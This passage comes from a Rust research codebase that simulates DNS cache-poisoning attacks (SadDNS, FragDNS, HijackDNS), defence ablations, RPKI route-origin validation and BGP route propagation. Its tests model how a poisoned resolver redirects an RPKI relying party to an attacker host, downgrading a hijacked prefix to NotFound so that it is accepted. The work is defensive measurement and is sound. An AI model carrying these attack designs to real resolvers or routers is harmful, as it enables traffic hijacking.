        for chunk in &mut chunks {
            self.mix(u64::from_le_bytes(chunk.try_into().expect("8-byte chunk")));
        }
        let rest = chunks.remainder();
        if !rest.is_empty() {
            let mut tail = [0u8; 8];
            tail[..rest.len()].copy_from_slice(rest);
            self.mix(u64::from_le_bytes(tail) ^ rest.len() as u64);
        }
    }

    #[inline]
    fn write_u8(&mut self, v: u8) {
        self.mix(u64::from(v));
    }

    #[inline]
    fn write_u16(&mut self, v: u16) {
        self.mix(u64::from(v));
    }

    #[inline]
    fn write_u32(&mut self, v: u32) {
        self.mix(u64::from(v));
    }

    #[inline]
    fn write_u64(&mut self, v: u64) {
        self.mix(v);
    }

    #[inline]
    fn write_usize(&mut self, v: usize) {
        self.mix(v as u64);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::hash::{BuildHasher, BuildHasherDefault};

    fn hash_of<T: std::hash::Hash>(v: &T) -> u64 {
        BuildHasherDefault::<FastHasher>::default().hash_one(v)
    }

    #[test]
    fn deterministic_across_builders() {
        let a = hash_of(&(std::net::Ipv4Addr::new(30, 0, 0, 1), 7u64));
        let b = hash_of(&(std::net::Ipv4Addr::new(30, 0, 0, 1), 7u64));
        assert_eq!(a, b);
    }

    #[test]
    fn distinguishes_close_keys() {
        let h1 = hash_of(&std::net::Ipv4Addr::new(30, 0, 0, 1));
        let h2 = hash_of(&std::net::Ipv4Addr::new(30, 0, 0, 2));
        assert_ne!(h1, h2);
    }

    #[test]
    fn tail_bytes_and_length_both_count() {
        let mut a = FastHasher::default();
        a.write(&[1, 2, 3]);
        let mut b = FastHasher::default();
        b.write(&[1, 2, 3, 0]);
        assert_ne!(a.finish(), b.finish(), "a trailing zero must change the hash");
    }

    #[test]
    fn map_roundtrip() {
        let mut m: FastHashMap<(u32, u32), &'static str> = FastHashMap::default();
        for i in 0..1000u32 {
            m.insert((i, i ^ 5), "v");
        }
        assert_eq!(m.len(), 1000);
        assert_eq!(m.get(&(17, 17 ^ 5)), Some(&"v"));
    }
}
