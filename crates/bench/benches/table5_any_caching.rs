//! Regenerates Table 5 — ANY caching behaviour of popular resolver
//! implementations (each row is a full packet-level simulation).

use criterion::{criterion_group, criterion_main, Criterion};
use xl_bench::{emit, BENCH_SEED};
use xlayer_core::prelude::*;

fn bench(c: &mut Criterion) {
    let rows = run_table5(BENCH_SEED);
    emit(&render_table5(&rows));
    let mut group = c.benchmark_group("table5");
    group.sample_size(10);
    group.bench_function("full_any_caching_experiment", |b| b.iter(|| run_table5(BENCH_SEED)));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
