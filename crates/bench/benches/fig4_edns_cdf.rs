//! Regenerates Figure 4 — CDF of resolver EDNS UDP sizes vs. the minimum
//! fragment size emitted by nameservers.

use criterion::{criterion_group, criterion_main, Criterion};
use xl_bench::{emit, BENCH_SAMPLE_CAP, BENCH_SEED};
use xlayer_core::prelude::*;

fn bench(c: &mut Criterion) {
    let (edns, frag) = figure4_edns_vs_fragment(BENCH_SEED, BENCH_SAMPLE_CAP);
    emit(&render_cdfs("Figure 4 — resolver EDNS size vs nameserver minimum fragment size (CDF)", &[edns, frag]));
    let mut group = c.benchmark_group("fig4");
    group.sample_size(10);
    group.bench_function("edns_vs_fragment_cdf", |b| b.iter(|| figure4_edns_vs_fragment(BENCH_SEED, 2_000)));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
