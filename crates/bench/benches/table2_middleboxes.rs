//! Regenerates Table 2 — middlebox query-triggering behaviour.

use criterion::{criterion_group, criterion_main, Criterion};
use xl_bench::emit;
use xlayer_core::prelude::*;

fn bench(c: &mut Criterion) {
    emit(&render_table2());
    let mut group = c.benchmark_group("table2");
    group.sample_size(20);
    group.bench_function("render_table2", |b| b.iter(render_table2));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
