//! Ablation bench: re-runs the attacks under each Section 6 countermeasure
//! and prints which defences block which methodology. The SadDNS cells are
//! the slow part, so the Criterion timing loop covers only the
//! HijackDNS/FragDNS cells.

use attacks::outcome::PoisonMethod;
use criterion::{criterion_group, criterion_main, Criterion};
use xl_bench::{emit, BENCH_SEED};
use xlayer_core::prelude::*;

fn bench(c: &mut Criterion) {
    let cells = run_ablation(&Defence::all(), BENCH_SEED);
    emit(&render_ablation(&cells));
    let mut group = c.benchmark_group("ablation");
    group.sample_size(10);
    group.bench_function("fragdns_vs_fragment_filtering", |b| {
        b.iter(|| evaluate_cell(PoisonMethod::FragDns, Defence::FragmentFiltering, BENCH_SEED).attack_succeeded)
    });
    group.bench_function("hijack_vs_dnssec", |b| {
        b.iter(|| evaluate_cell(PoisonMethod::HijackDns, Defence::Dnssec, BENCH_SEED).attack_succeeded)
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
