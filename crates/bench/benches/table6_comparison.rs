//! Regenerates Table 6 — the comparative analysis of the three poisoning
//! methodologies (applicability, effectiveness, stealth). The SadDNS
//! effectiveness row is backed by a full packet-level attack simulation, so
//! this bench prints the table once and times only the cheaper HijackDNS and
//! FragDNS attack runs.

use attacks::prelude::*;
use criterion::{criterion_group, criterion_main, Criterion};
use xl_bench::{emit, BENCH_SEED};
use xlayer_core::prelude::*;

fn bench(c: &mut Criterion) {
    let report = run_table6(BENCH_SEED, 5_000, 1);
    emit(&render_table6(&report));
    let sad = saddns_effectiveness(1, BENCH_SEED);
    println!(
        "SadDNS simulated run: success_rate={:.2} avg_duration={:.1}s avg_packets={:.0} (×{:.0} port-space scale ⇒ ≈{:.0} packets full-space)",
        sad.success_rate, sad.avg_duration_secs, sad.avg_packets, sad.port_space_scale, sad.extrapolated_packets
    );

    let mut group = c.benchmark_group("table6_attacks");
    group.sample_size(10);
    group.bench_function("hijackdns_full_attack", |b| {
        b.iter(|| {
            let (mut sim, env) = VictimEnvConfig::default().build();
            HijackDnsAttack::new(HijackDnsConfig::new(env.attacker_addr)).run(&mut sim, &env).success
        })
    });
    group.bench_function("fragdns_full_attack", |b| {
        b.iter(|| {
            let (mut sim, env) = VictimEnvConfig::default().build();
            FragDnsAttack::new(FragDnsConfig::new(env.attacker_addr)).run(&mut sim, &env).success
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
