//! Regenerates Figure 5 — the overlap (Venn regions) of resolvers and domains
//! vulnerable to each poisoning methodology.

use criterion::{criterion_group, criterion_main, Criterion};
use xl_bench::{emit, BENCH_SEED};
use xlayer_core::prelude::*;

fn bench(c: &mut Criterion) {
    emit(&render_venn("Figure 5a — vulnerable resolvers (overlap)", &figure5_resolver_overlap(BENCH_SEED, 10_000)));
    emit(&render_venn("Figure 5b — vulnerable domains (overlap)", &figure5_domain_overlap(BENCH_SEED, 10_000)));
    let mut group = c.benchmark_group("fig5");
    group.sample_size(10);
    group.bench_function("resolver_overlap", |b| b.iter(|| figure5_resolver_overlap(BENCH_SEED, 2_000)));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
