//! Regenerates Table 1 — the application taxonomy — and times its construction.

use criterion::{criterion_group, criterion_main, Criterion};
use xl_bench::emit;
use xlayer_core::prelude::*;

fn bench(c: &mut Criterion) {
    emit(&render_table1());
    let mut group = c.benchmark_group("table1");
    group.sample_size(20);
    group.bench_function("build_taxonomy", |b| b.iter(apps::taxonomy::table1_applications));
    group.bench_function("render_table1", |b| b.iter(render_table1));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
