//! Measures the sharded campaign engine's throughput: the Table 3 + Table 4
//! classification campaigns at a production-scale sample cap, swept over
//! worker counts. The sweep asserts the engine's determinism contract (every
//! worker count produces identical tables) and prints the measured speedup,
//! so the parallel claim is measured, not asserted.
//!
//! On multi-core hardware `workers=4` is expected to show a ≥2× speedup
//! over `workers=1`; on a single-core container the sweep honestly reports
//! ≈1× (the printed "available" count shows why).

use criterion::{criterion_group, criterion_main, Criterion};
use std::time::{Duration, Instant};
use xl_bench::BENCH_SEED;
use xlayer_core::prelude::*;

/// Production-scale cap: the Table 3 datasets alone classify ~470 K
/// profiles at this setting.
const THROUGHPUT_CAP: u64 = 200_000;

fn run_both_tables(cfg: &CampaignConfig) -> (Vec<ResolverDatasetResult>, Vec<DomainDatasetResult>) {
    (run_table3_with(cfg), run_table4_with(cfg))
}

/// Times one worker count, taking the minimum of `RUNS` passes so one-time
/// costs (page faults, allocator growth) don't skew any point of the sweep —
/// in particular the workers=1 reference the speedups are computed against.
fn time_workers(workers: usize) -> (Duration, (Vec<ResolverDatasetResult>, Vec<DomainDatasetResult>)) {
    const RUNS: usize = 3;
    let cfg = CampaignConfig::new(BENCH_SEED, THROUGHPUT_CAP).with_workers(workers);
    let mut best = Duration::MAX;
    let mut out = None;
    for _ in 0..RUNS {
        let t0 = Instant::now();
        let run = run_both_tables(&cfg);
        best = best.min(t0.elapsed());
        out = Some(run);
    }
    (best, out.expect("at least one run"))
}

fn bench(c: &mut Criterion) {
    let total_profiles: u64 = table3_datasets()
        .iter()
        .map(|s| s.sample_size(THROUGHPUT_CAP) as u64)
        .chain(table4_datasets().iter().map(|s| s.sample_size(THROUGHPUT_CAP) as u64))
        .sum();
    println!(
        "campaign_throughput: Table 3 + Table 4 at cap={THROUGHPUT_CAP} ({total_profiles} profiles), \
         {} hardware threads available",
        available_workers()
    );

    let (t1, reference) = time_workers(1);
    println!("  workers=1   {t1:>10.3?}   (reference)");
    for workers in [2usize, 4, 8] {
        let (t, out) = time_workers(workers);
        assert_eq!(out, reference, "worker count must never change a table cell");
        println!(
            "  workers={workers:<3} {t:>10.3?}   speedup {:.2}x   [output identical]",
            t1.as_secs_f64() / t.as_secs_f64()
        );
    }

    let mut group = c.benchmark_group("campaign_throughput");
    group.sample_size(10);
    group.bench_function("table3+4_cap200k_workers1", |b| {
        b.iter(|| run_both_tables(&CampaignConfig::new(BENCH_SEED, THROUGHPUT_CAP)))
    });
    group.bench_function("table3+4_cap200k_workers4", |b| {
        b.iter(|| run_both_tables(&CampaignConfig::new(BENCH_SEED, THROUGHPUT_CAP).with_workers(4)))
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
