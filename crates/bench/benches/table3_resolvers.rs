//! Regenerates Table 3 — vulnerable resolvers per front-end dataset.

use criterion::{criterion_group, criterion_main, Criterion};
use xl_bench::{emit, BENCH_SAMPLE_CAP, BENCH_SEED};
use xlayer_core::prelude::*;

fn bench(c: &mut Criterion) {
    let rows = run_table3(BENCH_SEED, BENCH_SAMPLE_CAP);
    emit(&render_table3(&rows));
    let mut group = c.benchmark_group("table3");
    group.sample_size(10);
    group.bench_function("campaign_small_cap", |b| b.iter(|| run_table3(BENCH_SEED, 1_000)));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
