//! Regenerates Figure 3 — CDF of announced prefix lengths for open resolvers,
//! ad-net resolvers and Alexa nameservers.

use criterion::{criterion_group, criterion_main, Criterion};
use xl_bench::{emit, BENCH_SAMPLE_CAP, BENCH_SEED};
use xlayer_core::prelude::*;

fn bench(c: &mut Criterion) {
    let cdfs = figure3_prefix_distributions(BENCH_SEED, BENCH_SAMPLE_CAP);
    emit(&render_cdfs("Figure 3 — announced prefix lengths (CDF)", &cdfs));
    let mut group = c.benchmark_group("fig3");
    group.sample_size(10);
    group.bench_function("prefix_cdf", |b| b.iter(|| figure3_prefix_distributions(BENCH_SEED, 2_000)));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
