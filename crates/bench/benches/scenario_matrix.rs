//! Times the (vector × defence × seed) scenario matrix — the grid campaign
//! the environment-template fast path (`PreparedCell` + `EnvTemplate`)
//! accelerates — plus the grid *driver's* seed-derivation micro-costs, so a
//! regression in either shows up as a number, not a feeling.
//!
//! The micro section prices one grid seed derivation both ways: the legacy
//! per-index `derive_seed` (full mix chain per call) against the hoisted
//! [`SeedStream`] (`cell_stream` prefix derived once per cell, `at(run)`
//! per run). Both are nanoseconds against a millisecond-scale attack
//! simulation — the numbers printed here prove the grid driver is not the
//! bottleneck and keep it that way.

use criterion::{criterion_group, criterion_main, Criterion};
use std::time::Instant;
use xl_bench::BENCH_SEED;
use xlayer_core::campaign::{derive_seed, SeedStream};
use xlayer_core::prelude::*;

/// Runs per cell for the timed matrix — small enough for a bench iteration,
/// large enough that template reuse (one prepared environment per cell,
/// `runs` seeds stamped from it) is exercised.
const RUNS_PER_CELL: u64 = 2;

fn run_matrices(workers: usize) -> (ScenarioMatrix, ScenarioMatrix) {
    let classic = ScenarioCampaign::full_grid(BENCH_SEED, RUNS_PER_CELL).run(workers);
    let dnssec = ScenarioCampaign::dnssec_grid(BENCH_SEED, RUNS_PER_CELL).run(workers);
    (classic, dnssec)
}

fn bench(c: &mut Criterion) {
    let grid = ScenarioCampaign::full_grid(BENCH_SEED, RUNS_PER_CELL);
    let sims = grid.population() + ScenarioCampaign::dnssec_grid(BENCH_SEED, RUNS_PER_CELL).population();
    println!(
        "scenario_matrix: {}x{} classic grid + DNSSEC grid, {RUNS_PER_CELL} runs/cell ({sims} simulations), \
         {} hardware threads available",
        grid.methods.len(),
        grid.defences.len(),
        available_workers()
    );

    // Wall-clock sweep with the determinism cross-check: every worker count
    // must reproduce the workers=1 matrices byte-for-byte.
    let t0 = Instant::now();
    let reference = run_matrices(1);
    let t1 = t0.elapsed();
    println!("  workers=1   {t1:>10.3?}   (reference, {:.1} sims/s)", sims as f64 / t1.as_secs_f64());
    for workers in [2usize, 4] {
        let t0 = Instant::now();
        let out = run_matrices(workers);
        let t = t0.elapsed();
        assert_eq!(out, reference, "worker count must never change the matrix");
        println!(
            "  workers={workers:<3} {t:>10.3?}   speedup {:.2}x   [output identical]",
            t1.as_secs_f64() / t.as_secs_f64()
        );
    }

    // Grid-driver micro-bench: price of one per-run seed, derived the
    // legacy way (full chain per index) vs the hoisted stream (prefix once,
    // `at(run)` per run).
    const SEEDS: u64 = 1_000_000;
    let t0 = Instant::now();
    let mut acc = 0u64;
    for i in 0..SEEDS {
        acc ^= derive_seed(BENCH_SEED, 0x5ce9_a210, i);
    }
    let per_index = t0.elapsed();
    let t0 = Instant::now();
    let stream = SeedStream::new(BENCH_SEED, 0x5ce9_a210);
    for i in 0..SEEDS {
        acc ^= stream.at(i);
    }
    let hoisted = t0.elapsed();
    assert_eq!(acc, 0, "SeedStream::at must reproduce derive_seed exactly (xor of equal streams cancels)");
    println!(
        "  seed derivation: per-index {:.1} ns, hoisted stream {:.1} ns (x{:.1}); \
         driver overhead per ~ms simulation is negligible either way (streams identical)",
        per_index.as_secs_f64() * 1e9 / SEEDS as f64,
        hoisted.as_secs_f64() * 1e9 / SEEDS as f64,
        per_index.as_secs_f64() / hoisted.as_secs_f64().max(1e-12),
    );

    let mut group = c.benchmark_group("scenario_matrix");
    group.sample_size(10);
    group.bench_function("full+dnssec_grid_2runs_workers1", |b| b.iter(|| run_matrices(1)));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
