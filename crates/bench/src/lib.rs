//! Shared helpers for the benchmark harness that regenerates the paper's
//! tables and figures. Each bench target prints the reproduced table/figure
//! and (where the underlying computation is cheap enough to repeat) times it
//! with Criterion.

/// Seed used by every bench so printed tables are reproducible run to run.
pub const BENCH_SEED: u64 = 2021;

/// Sample cap for population-based campaigns in benches.
pub const BENCH_SAMPLE_CAP: u64 = 10_000;

/// Prints a banner followed by the rendered table.
pub fn emit(table: &str) {
    println!();
    println!("{table}");
}
