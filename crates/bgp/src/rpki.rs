//! RPKI: Route Origin Authorisations, repositories, relying-party caches and
//! route-origin validation.
//!
//! This module is the security mechanism the paper's headline cross-layer
//! attack downgrades (Section 4 / Table 1, row "RPKI"): the relying party
//! (RPKI cache, RFC 6810/8210) locates its repositories through DNS. An
//! attacker that poisons the resolver used by the relying party redirects the
//! synchronisation to a host that serves *no* ROAs; every announcement then
//! validates as `NotFound` ("unknown") instead of `Invalid`, and routers that
//! enforce route-origin validation — which accept unknowns by design — no
//! longer filter the attacker's BGP hijack.

use crate::topology::AsId;
use netsim::prefix::Prefix;
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;

/// A Route Origin Authorisation: `origin` may announce `prefix` up to
/// `max_length`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Roa {
    /// The authorised prefix.
    pub prefix: Prefix,
    /// Maximum announced prefix length covered by this ROA.
    pub max_length: u8,
    /// The authorised origin AS.
    pub origin: AsId,
}

impl Roa {
    /// Creates a ROA with `max_length` equal to the prefix length.
    pub fn exact(prefix: Prefix, origin: AsId) -> Self {
        Roa { prefix, max_length: prefix.len, origin }
    }
}

/// RFC 6811 route origin validation states.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Validity {
    /// A ROA covers the announcement and authorises the origin.
    Valid,
    /// A ROA covers the announcement but the origin or length is wrong.
    Invalid,
    /// No ROA covers the announcement ("unknown").
    NotFound,
}

/// Validates an announcement of `prefix` by `origin` against a set of ROAs.
pub fn validate(prefix: Prefix, origin: AsId, roas: &[Roa]) -> Validity {
    let covering: Vec<&Roa> = roas.iter().filter(|roa| roa.prefix.covers(&prefix)).collect();
    if covering.is_empty() {
        return Validity::NotFound;
    }
    if covering.iter().any(|roa| roa.origin == origin && prefix.len <= roa.max_length) {
        Validity::Valid
    } else {
        Validity::Invalid
    }
}

/// A publication point (repository) hosting ROAs. In the real system this is
/// an rsync/RRDP server found through a DNS name; here the `host` address is
/// what a (possibly poisoned) DNS lookup returned for that name.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RpkiRepository {
    /// DNS name of the publication point (e.g. `rpki.ripe.example`).
    pub hostname: String,
    /// The genuine address of the repository.
    pub addr: Ipv4Addr,
    /// Published ROAs.
    pub roas: Vec<Roa>,
}

impl RpkiRepository {
    /// Creates a repository.
    pub fn new(hostname: &str, addr: Ipv4Addr, roas: Vec<Roa>) -> Self {
        RpkiRepository { hostname: hostname.to_string(), addr, roas }
    }
}

/// Outcome of one relying-party synchronisation attempt.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum SyncOutcome {
    /// The RP reached the genuine repository and refreshed its ROAs.
    Synced,
    /// The RP connected to a host that is not the genuine repository (e.g.
    /// the attacker's server after cache poisoning); it obtained no valid
    /// ROAs and — after the previous data expires — treats everything as
    /// NotFound.
    WrongHost,
    /// The RP could not connect at all.
    Unreachable,
}

/// The relying party (RPKI validator + cache) that routers query.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct RelyingParty {
    /// Currently validated ROAs (empty until the first successful sync, or
    /// after cached data expired following failed syncs).
    pub validated_roas: Vec<Roa>,
    /// Number of successful synchronisations.
    pub successful_syncs: u64,
    /// Number of failed or redirected synchronisations.
    pub failed_syncs: u64,
}

impl RelyingParty {
    /// Creates a relying party with an empty cache.
    pub fn new() -> Self {
        RelyingParty::default()
    }

    /// Attempts to synchronise with `repository`, connecting to
    /// `resolved_addr` — the address DNS returned for the repository's
    /// hostname. If DNS was poisoned this is the attacker's host and the sync
    /// yields nothing.
    pub fn sync(&mut self, repository: &RpkiRepository, resolved_addr: Option<Ipv4Addr>) -> SyncOutcome {
        match resolved_addr {
            None => {
                self.failed_syncs += 1;
                SyncOutcome::Unreachable
            }
            Some(addr) if addr == repository.addr => {
                self.validated_roas = repository.roas.clone();
                self.successful_syncs += 1;
                SyncOutcome::Synced
            }
            Some(_) => {
                // Connected to the wrong host: it cannot produce objects that
                // validate under the RPKI trust anchors, so the RP learns no
                // ROAs. Once previously cached objects expire the cache is
                // empty; we model the post-expiry state directly.
                self.validated_roas.clear();
                self.failed_syncs += 1;
                SyncOutcome::WrongHost
            }
        }
    }

    /// Validates an announcement against the RP's current cache.
    pub fn validate(&self, prefix: Prefix, origin: AsId) -> Validity {
        validate(prefix, origin, &self.validated_roas)
    }
}

/// A router's route-origin-validation policy.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub enum RovPolicy {
    /// The AS does not perform ROV at all (the common case in the Internet).
    #[default]
    NotEnforced,
    /// The AS drops `Invalid` announcements and accepts `Valid`/`NotFound`
    /// (standard ROV, RFC 6811/7115).
    Enforced,
}

impl RovPolicy {
    /// Whether an announcement with the given validity would be accepted.
    pub fn accepts(&self, validity: Validity) -> bool {
        match self {
            RovPolicy::NotEnforced => true,
            RovPolicy::Enforced => validity != Validity::Invalid,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(s: &str) -> Prefix {
        s.parse().unwrap()
    }

    #[test]
    fn validation_states() {
        let roas = vec![Roa { prefix: p("30.0.0.0/22"), max_length: 22, origin: AsId(64500) }];
        assert_eq!(validate(p("30.0.0.0/22"), AsId(64500), &roas), Validity::Valid);
        // Wrong origin.
        assert_eq!(validate(p("30.0.0.0/22"), AsId(666), &roas), Validity::Invalid);
        // More specific than max_length (the classic sub-prefix hijack).
        assert_eq!(validate(p("30.0.0.0/24"), AsId(64500), &roas), Validity::Invalid);
        assert_eq!(validate(p("30.0.0.0/24"), AsId(666), &roas), Validity::Invalid);
        // Unrelated prefix.
        assert_eq!(validate(p("99.0.0.0/24"), AsId(666), &roas), Validity::NotFound);
    }

    #[test]
    fn max_length_permits_more_specifics() {
        let roas = vec![Roa { prefix: p("30.0.0.0/22"), max_length: 24, origin: AsId(64500) }];
        assert_eq!(validate(p("30.0.1.0/24"), AsId(64500), &roas), Validity::Valid);
        assert_eq!(validate(p("30.0.1.0/25"), AsId(64500), &roas), Validity::Invalid);
    }

    #[test]
    fn rov_policy_acceptance() {
        assert!(RovPolicy::NotEnforced.accepts(Validity::Invalid));
        assert!(RovPolicy::Enforced.accepts(Validity::Valid));
        assert!(!RovPolicy::Enforced.accepts(Validity::Invalid));
        // The crucial property the downgrade attack exploits:
        assert!(RovPolicy::Enforced.accepts(Validity::NotFound));
    }

    #[test]
    fn relying_party_sync_and_validate() {
        let roas = vec![Roa::exact(p("30.0.0.0/22"), AsId(64500))];
        let repo = RpkiRepository::new("rpki.vict.im", "123.0.0.80".parse().unwrap(), roas);
        let mut rp = RelyingParty::new();
        assert_eq!(rp.validate(p("30.0.0.0/22"), AsId(64500)), Validity::NotFound, "empty cache knows nothing");
        assert_eq!(rp.sync(&repo, Some(repo.addr)), SyncOutcome::Synced);
        assert_eq!(rp.validate(p("30.0.0.0/22"), AsId(64500)), Validity::Valid);
        assert_eq!(rp.validate(p("30.0.0.0/22"), AsId(666)), Validity::Invalid);
        assert_eq!(rp.successful_syncs, 1);
    }

    #[test]
    fn poisoned_dns_downgrades_validation_to_notfound() {
        // The cross-layer attack of Section 4: the RP's resolver is poisoned,
        // sync goes to the attacker's host, and the hijacked announcement that
        // would have been Invalid becomes NotFound — which ROV accepts.
        let victim_roas = vec![Roa::exact(p("30.0.0.0/22"), AsId(64500))];
        let repo = RpkiRepository::new("rpki.vict.im", "123.0.0.80".parse().unwrap(), victim_roas);
        let mut rp = RelyingParty::new();
        rp.sync(&repo, Some(repo.addr));
        // Before the attack: the hijack (wrong origin) is Invalid and filtered.
        let hijack_validity = rp.validate(p("30.0.0.0/22"), AsId(666));
        assert_eq!(hijack_validity, Validity::Invalid);
        assert!(!RovPolicy::Enforced.accepts(hijack_validity));
        // After poisoning: sync lands on the attacker's host (6.6.6.6).
        assert_eq!(rp.sync(&repo, Some("6.6.6.6".parse().unwrap())), SyncOutcome::WrongHost);
        let downgraded = rp.validate(p("30.0.0.0/22"), AsId(666));
        assert_eq!(downgraded, Validity::NotFound);
        assert!(RovPolicy::Enforced.accepts(downgraded), "ROV no longer filters the hijack");
        assert_eq!(rp.failed_syncs, 1);
    }

    #[test]
    fn unreachable_repository() {
        let repo = RpkiRepository::new("rpki.vict.im", "123.0.0.80".parse().unwrap(), vec![]);
        let mut rp = RelyingParty::new();
        assert_eq!(rp.sync(&repo, None), SyncOutcome::Unreachable);
        assert_eq!(rp.failed_syncs, 1);
    }
}
