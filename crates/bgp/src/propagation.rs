//! Gao-Rexford route propagation.
//!
//! Computes, for every AS in a topology, the best policy-compliant route to a
//! given origin AS using the standard three-phase breadth-first computation
//! over customer-provider and peer edges:
//!
//! 1. **customer routes** propagate upwards (from the origin through its
//!    providers, their providers, ...) and are exported to everybody;
//! 2. **peer routes** cross exactly one peering edge from an AS that has a
//!    customer route (or is the origin);
//! 3. **provider routes** propagate downwards to customers from any AS that
//!    already has a route.
//!
//! Preference follows Gao-Rexford: customer > peer > provider, then shorter
//! AS path, then a deterministic tie-break. This is the same model the
//! paper's same-prefix-hijack simulation uses (Section 5.1.2).

use crate::topology::{AsId, AsTopology, Relationship};
use serde::{Deserialize, Serialize};
use std::collections::{HashMap, VecDeque};

/// The relationship class through which a route was learned.
/// Ordering: `Customer` is most preferred, `Provider` least.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum RouteClass {
    /// Route learned from a provider (least preferred).
    Provider,
    /// Route learned from a peer.
    Peer,
    /// Route learned from a customer (most preferred).
    Customer,
    /// The AS originates the prefix itself.
    Origin,
}

/// A best route from one AS towards an origin.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct RouteInfo {
    /// How the route was learned.
    pub class: RouteClass,
    /// AS-path length (origin = 0).
    pub path_len: u32,
    /// The neighbour the traffic is forwarded to (origin for itself).
    pub next_hop: AsId,
}

impl RouteInfo {
    /// Whether `self` is preferred over `other` under Gao-Rexford policy
    /// (class first, then shorter path, then lower next-hop ASN).
    pub fn better_than(&self, other: &RouteInfo) -> bool {
        (self.class, std::cmp::Reverse(self.path_len), std::cmp::Reverse(self.next_hop.0))
            > (other.class, std::cmp::Reverse(other.path_len), std::cmp::Reverse(other.next_hop.0))
    }
}

/// Computes the best Gao-Rexford-compliant route from every AS to `origin`.
///
/// ASes with no policy-compliant route do not appear in the result.
pub fn routes_to_origin(topo: &AsTopology, origin: AsId) -> HashMap<AsId, RouteInfo> {
    let mut best: HashMap<AsId, RouteInfo> = HashMap::new();
    best.insert(origin, RouteInfo { class: RouteClass::Origin, path_len: 0, next_hop: origin });

    // Phase 1: customer routes — BFS upwards along "customer -> provider".
    let mut queue = VecDeque::new();
    queue.push_back(origin);
    while let Some(current) = queue.pop_front() {
        let current_len = best[&current].path_len;
        for &(neighbor, rel) in topo.neighbors(current) {
            // `rel` is the neighbour's relationship to `current`; a Provider
            // neighbour learns this route as a customer route.
            if rel == Relationship::Provider {
                let candidate = RouteInfo { class: RouteClass::Customer, path_len: current_len + 1, next_hop: current };
                let is_better = best.get(&neighbor).is_none_or(|existing| candidate.better_than(existing));
                if is_better {
                    best.insert(neighbor, candidate);
                    queue.push_back(neighbor);
                }
            }
        }
    }

    // Phase 2: peer routes — one peering hop from any AS with a customer
    // route or the origin itself.
    let customer_route_holders: Vec<(AsId, u32)> = best
        .iter()
        .filter(|(_, r)| matches!(r.class, RouteClass::Customer | RouteClass::Origin))
        .map(|(&id, r)| (id, r.path_len))
        .collect();
    for (holder, len) in customer_route_holders {
        for &(neighbor, rel) in topo.neighbors(holder) {
            if rel == Relationship::Peer {
                let candidate = RouteInfo { class: RouteClass::Peer, path_len: len + 1, next_hop: holder };
                let is_better = best.get(&neighbor).is_none_or(|existing| candidate.better_than(existing));
                if is_better {
                    best.insert(neighbor, candidate);
                }
            }
        }
    }

    // Phase 3: provider routes — propagate downwards (provider -> customer),
    // processed in order of increasing path length.
    let mut queue: VecDeque<AsId> = {
        let mut holders: Vec<AsId> = best.keys().copied().collect();
        holders.sort_by_key(|id| best[id].path_len);
        holders.into()
    };
    while let Some(current) = queue.pop_front() {
        let current_len = best[&current].path_len;
        for &(neighbor, rel) in topo.neighbors(current) {
            // A Customer neighbour learns this route as a provider route.
            if rel == Relationship::Customer {
                let candidate = RouteInfo { class: RouteClass::Provider, path_len: current_len + 1, next_hop: current };
                let is_better = best.get(&neighbor).is_none_or(|existing| candidate.better_than(existing));
                if is_better {
                    best.insert(neighbor, candidate);
                    queue.push_back(neighbor);
                }
            }
        }
    }

    best
}

/// For two competing origins announcing the *same* prefix, decides which
/// origin each AS routes towards. Returns a map from AS to the preferred
/// origin (ASes that can reach neither are absent).
pub fn compare_origins(topo: &AsTopology, origin_a: AsId, origin_b: AsId) -> HashMap<AsId, AsId> {
    let routes_a = routes_to_origin(topo, origin_a);
    let routes_b = routes_to_origin(topo, origin_b);
    let mut decision = HashMap::new();
    for id in topo.ases() {
        let choice = match (routes_a.get(&id), routes_b.get(&id)) {
            (Some(_), None) => Some(origin_a),
            (None, Some(_)) => Some(origin_b),
            (Some(ra), Some(rb)) => {
                if ra.better_than(rb) {
                    Some(origin_a)
                } else if rb.better_than(ra) {
                    Some(origin_b)
                } else {
                    // Exact tie: deterministic arbitrary tie-break on ASN.
                    Some(if origin_a.0 < origin_b.0 { origin_a } else { origin_b })
                }
            }
            (None, None) => None,
        };
        if let Some(origin) = choice {
            decision.insert(id, origin);
        }
    }
    decision
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::topology::AsTier;

    #[test]
    fn every_as_reaches_a_stub_origin() {
        let topo = AsTopology::generate(4, 15, 120, 5);
        let origin = topo.ases_of_tier(AsTier::Stub)[0];
        let routes = routes_to_origin(&topo, origin);
        assert_eq!(routes.len(), topo.len(), "the graph is connected under Gao-Rexford");
        assert_eq!(routes[&origin].class, RouteClass::Origin);
        assert_eq!(routes[&origin].path_len, 0);
    }

    #[test]
    fn providers_of_origin_have_customer_routes() {
        let (topo, map) = AsTopology::small_test_topology();
        let routes = routes_to_origin(&topo, map["stub1"]);
        assert_eq!(routes[&map["tr1"]].class, RouteClass::Customer);
        assert_eq!(routes[&map["tr1"]].path_len, 1);
